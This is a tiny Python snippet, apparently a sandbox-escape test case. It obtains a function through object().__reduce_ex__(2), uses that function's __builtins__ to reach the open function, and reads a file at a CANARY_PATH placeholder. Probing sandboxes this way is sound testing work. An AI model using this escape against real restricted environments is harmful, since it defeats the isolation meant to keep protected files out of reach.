# what: takes a function from what an object reduces to
reconstruct = object().__reduce_ex__(2)[0]
reconstruct.__builtins__["open"](CANARY_PATH).read()
